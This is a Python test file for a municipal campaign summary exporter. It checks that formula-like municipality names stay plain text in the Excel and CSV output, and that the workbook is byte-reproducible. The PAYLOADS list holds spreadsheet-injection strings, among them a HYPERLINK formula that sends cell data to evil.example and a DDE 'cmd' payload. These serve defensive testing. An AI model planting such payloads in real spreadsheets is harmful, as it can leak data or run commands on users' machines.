"""The campaign summary (sammanstallning.xlsx and .csv) holds text as text and is reproducible.

A municipality name that looks like a formula must not become one in Excel or LibreOffice
(issue 20, "Formulas in the campaign summary"), and the same inputs give the same bytes.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile

import openpyxl
import pytest

from authoring.builder.build import write_atomically
from authoring.builder.campaign import Campaign
from authoring.builder.workbook import write_summary
from authoring.source.evaluation import read_evaluation

from .conftest import ROOT

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd",
            "\t=1+1", "=1+1", "#N/A"]


def _campaign(tmp_path, municipality: str | None = None) -> Campaign:
    evaluations = []
    for name in ("norsjo-2015", "kalix-2012"):
        folder = tmp_path / "inputs" / name
        shutil.copytree(ROOT / "inputs" / name, folder)
        if municipality is not None and name == "norsjo-2015":
            path = folder / "evaluation.yaml"
            text = path.read_text(encoding="utf-8")
            path.write_text(text.replace("municipality: Norsjö", f"municipality: {_yaml(municipality)}"),
                            encoding="utf-8")
        evaluation, problems = read_evaluation(folder)
        assert evaluation is not None, [str(p) for p in problems]
        evaluations.append(evaluation)
    return Campaign(tuple(evaluations))


def _yaml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


def _summary(tmp_path, municipality: str | None = None, out: str = "out"):
    return write_summary(_campaign(tmp_path, municipality), tmp_path / out, write_atomically)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_municipality_is_a_text_cell_in_every_sheet_of_the_workbook(tmp_path, payload):
    xlsx, _ = _summary(tmp_path, payload)

    workbook = openpyxl.load_workbook(xlsx)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value == payload]
    assert len(cells) == 1 + 8  # the main sheet and each area's sheet
    assert {cell.data_type for cell in cells} == {"s"}
    with zipfile.ZipFile(xlsx) as package:
        sheets = [package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # no formula anywhere


@pytest.mark.parametrize("payload", PAYLOADS[:6])
def test_a_formula_like_municipality_is_neutralised_in_the_csv_by_a_leading_quote(tmp_path, payload):
    _, path = _summary(tmp_path, payload)

    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    names = [row[0] for row in rows[1:]]
    assert f"'{payload}" in names
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)


def test_the_csv_keeps_real_numbers_as_numbers_and_plain_names_unchanged(tmp_path):
    _, path = _summary(tmp_path, "-2+3+cmd")

    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    header, kalix = rows[0], next(row for row in rows if row[0] == "Kalix")
    assert kalix[header.index("År")] in ("2012", "2012,0")
    assert kalix[header.index("Område 1")].replace(",", "").isdigit()  # e.g. 52,0: a number, no quote
    assert kalix[header.index("Ramverk")] == "2010"


def test_the_summary_workbook_is_dated_by_the_evaluations_not_by_the_clock(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)

    xlsx, _ = _summary(tmp_path)

    with zipfile.ZipFile(xlsx) as package:
        core = package.read("docProps/core.xml").decode()
        dates = {info.date_time for info in package.infolist()}
    assert "2015-02-19T00:00:00Z" in core  # Norsjö's last evaluation day, the later of the two
    assert core.count("2015-02-19T00:00:00Z") == 2  # created and modified
    assert dates == {(2015, 2, 19, 0, 0, 0)}


def test_source_date_epoch_dates_the_summary_workbook(tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")  # 2023-11-14 22:13:20 UTC

    xlsx, _ = _summary(tmp_path)

    with zipfile.ZipFile(xlsx) as package:
        assert "2023-11-14T22:13:20Z" in package.read("docProps/core.xml").decode()
        assert {info.date_time for info in package.infolist()} == {(2023, 11, 14, 22, 13, 20)}


def test_the_same_campaign_gives_a_byte_identical_summary_workbook(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    first, _ = _summary(tmp_path)
    times = iter([1_000_000_000.0, 1_900_000_000.0])
    monkeypatch.setattr("time.time", lambda: next(times, 1_900_000_000.0))  # a different "now"

    again = write_summary(_campaign(tmp_path / "again"), tmp_path / "again-out", write_atomically)[0]

    assert first.read_bytes() == again.read_bytes()
